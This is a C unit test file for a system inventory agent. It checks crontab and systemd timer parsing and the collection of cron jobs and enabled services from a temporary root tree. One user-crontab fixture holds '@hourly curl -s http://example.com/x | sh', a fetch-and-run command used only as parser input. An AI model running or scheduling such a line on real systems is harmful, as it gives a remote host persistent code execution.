/* t_crontab.c - crontab entries, timer units, and the jobs and services
 * collectors over a small root tree. */
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "agent/crontab.h"
#include "agent/inventory.h"
#include "common/err.h"
#include "tests/tap.h"

static int
rm_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	(void)flag;
	(void)ftw;
	return remove(path);
}

static void
put(const char *root, const char *rel, const char *text)
{
	char path[4096];
	snprintf(path, sizeof(path), "%s/%s", root, rel);
	for (char *p = path + strlen(root) + 1; (p = strchr(p, '/')); p++) {
		*p = '\0';
		mkdir(path, 0755);
		*p = '/';
	}
	FILE *f = fopen(path, "w");
	if (f) {
		fputs(text, f);
		fclose(f);
	}
}

static void
test_parse(void)
{
	struct arena a;
	struct vec jobs;
	size_t bad = 0;
	arena_init(&a, 0);
	vec_init(&jobs, sizeof(struct inv_job), 1000);
	struct span sys = SPAN_LIT(
	    "SHELL=/bin/sh\n"
	    "PATH = /usr/bin:/bin\n"
	    "\"QUOTED\"=x\n"
	    "# m h dom mon dow user command\n"
	    "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
	    "*/5 1-3 * jan,feb mon-fri www-data /usr/bin/php /var/www/cron.php\n"
	    "@reboot root /usr/local/bin/boot.sh\n"
	    "@DAILY backup /usr/bin/backup --all\n"
	    "@sometimes root /bin/true\n"
	    "1 2 3 4 root-without-command\n"
	    "1 2 3 4 5 root\n"
	    "x! 2 3 4 5 root /bin/true\n");
	is_int(crontab_parse(&a, sys, "/etc/crontab", true, NULL, &jobs, &bad), 0, "parses");
	is_int(jobs.n, 4, "four jobs; environment lines are not jobs");
	is_int(bad, 4, "unknown @keyword, short line, no command, bad field counted");
	struct inv_job *j = vec_at(&jobs, 0);
	ok(strcmp(j->schedule, "17 *\t* * *") == 0 && strcmp(j->user, "root") == 0 &&
	    strcmp(j->command, "cd / && run-parts --report /etc/cron.hourly") == 0,
	    "five fields, user, command");
	j = vec_at(&jobs, 2);
	ok(strcmp(j->schedule, "@reboot") == 0 && strcmp(j->user, "root") == 0, "@reboot");
	j = vec_at(&jobs, 3);
	ok(strcmp(j->schedule, "@DAILY") == 0 && strcmp(j->user, "backup") == 0,
	    "@keywords are case-insensitive");

	jobs.n = 0;
	bad = 0;
	struct span user = SPAN_LIT("MAILTO=\"\"\n0 3 * * * /home/alice/backup.sh >/dev/null 2>&1\n"
	    "@hourly curl -s http://example.com/x | sh\n");
	is_int(crontab_parse(&a, user, "/var/spool/cron/crontabs/alice", false, "alice",
	    &jobs, &bad), 0, "user crontab parses");
	j = vec_at(&jobs, 1);
	ok(jobs.n == 2 && strcmp(j->user, "alice") == 0 &&
	    strcmp(j->command, "curl -s http://example.com/x | sh") == 0,
	    "user crontab: no user field, owner from the file name");

	char *sched, *unit;
	struct span timer = SPAN_LIT("[Unit]\nDescription=x\nOnCalendar=never\n[Timer]\n"
	    "OnCalendar=*-*-* 06,18:00\nRandomizedDelaySec=12h\nOnCalendar=\n"
	    "OnCalendar=daily\nOnBootSec=15min\nUnit=other.service\n[Install]\n");
	is_int(crontab_parse_timer(&a, timer, &sched, &unit), 0, "timer parses");
	is_str(sched, "OnCalendar=daily; OnBootSec=15min",
	    "[Timer] only; an empty assignment resets");
	is_str(unit, "other.service", "Unit=");
	ok(crontab_name_ok("0anacron") && !crontab_name_ok("x.dpkg-old") &&
	    !crontab_name_ok("a~"), "run-parts names");
	arena_release(&a);
}

static void
test_collect(void)
{
	char dir[] = "/tmp/t_cron_XXXXXX";
	struct rootfs root;
	struct conf conf;
	struct arena a;
	struct scan_ctx ctx;
	struct inventory inv;
	char path[4200];
	if (!mkdtemp(dir))
		return;
	put(dir, "etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n");
	put(dir, "etc/cron.d/php", "09,39 * * * * root /usr/lib/php/sessionclean\n");
	put(dir, "etc/cron.d/old.dpkg-dist", "* * * * * root /bin/false\n");
	put(dir, "etc/cron.daily/logrotate", "#!/bin/sh\n");
	put(dir, "etc/cron.daily/.placeholder", "");
	put(dir, "var/spool/cron/crontabs/alice", "@reboot /home/alice/start\n");
	put(dir, "lib/systemd/system/apt-daily.timer",
	    "[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\n");
	put(dir, "lib/systemd/system/ssh.service", "[Service]\n");
	put(dir, "lib/systemd/system/cups.service", "[Service]\n");
	put(dir, "etc/systemd/system/timers.target.wants/.keep", "");
	put(dir, "etc/systemd/system/multi-user.target.wants/.keep", "");
	snprintf(path, sizeof(path), "%s/etc/systemd/system/timers.target.wants/apt-daily.timer", dir);
	if (symlink("/lib/systemd/system/apt-daily.timer", path) != 0)
		diag("symlink failed");
	snprintf(path, sizeof(path), "%s/etc/systemd/system/multi-user.target.wants/ssh.service", dir);
	if (symlink("/lib/systemd/system/ssh.service", path) != 0)
		diag("symlink failed");
	snprintf(path, sizeof(path), "%s/etc/systemd/system/multi-user.target.wants/cups.service", dir);
	if (symlink("/lib/systemd/system/cups.service", path) != 0)
		diag("symlink failed");
	snprintf(path, sizeof(path), "%s/etc/systemd/system/cups.service", dir);
	if (symlink("/dev/null", path) != 0)
		diag("symlink failed");
	put(dir, "etc/rc2.d/S01apache2", "");

	arena_init(&a, 0);
	conf_init(&conf);
	rootfs_open(&root, dir);
	memset(&ctx, 0, sizeof(ctx));
	ctx.root = &root;
	ctx.conf = &conf;
	ctx.arena = &a;
	vec_init(&ctx.warnings, sizeof(struct scan_warning), 100);
	inventory_init(&inv);
	is_int(inventory_jobs_collect(&ctx, &inv), 0, "jobs collected");
	is_int(inv.jobs.n, 5, "crontab, cron.d (dotted name skipped), cron.daily, spool, timer");
	bool timer = false, spool = false, daily = false;
	for (size_t i = 0; i < inv.jobs.n; i++) {
		struct inv_job *j = vec_at(&inv.jobs, i);
		if (strcmp(j->kind, "systemd-timer") == 0)
			timer = strcmp(j->command, "apt-daily.service") == 0 &&
			    strstr(j->schedule, "OnCalendar=*-*-* 6,18:00") != NULL;
		if (j->user && strcmp(j->user, "alice") == 0)
			spool = strcmp(j->schedule, "@reboot") == 0;
		if (strcmp(j->schedule, "@daily") == 0)
			daily = strcmp(j->command, "/etc/cron.daily/logrotate") == 0;
	}
	ok(timer, "enabled timer with its OnCalendar and unit (link resolved in root)");
	ok(spool, "per-user crontab");
	ok(daily, "cron.daily script as an @daily job");

	is_int(inventory_services_collect(&ctx, &inv), 0, "services collected");
	struct inv_service *s = inv.services.n ? vec_at(&inv.services, 0) : NULL;
	ok(inv.services.n == 2, "ssh and the timer; masked cups left out; no SysV fallback");
	ok(s && strcmp(s->name, "ssh.service") == 0 &&
	    strcmp(s->target, "multi-user.target") == 0, "ssh.service wanted by multi-user.target");
	rootfs_close(&root);
	conf_release(&conf);
	arena_release(&a);
	nftw(dir, rm_one, 16, FTW_DEPTH | FTW_PHYS);
}

int
main(void)
{
	test_parse();
	test_collect();
	return done_testing();
}
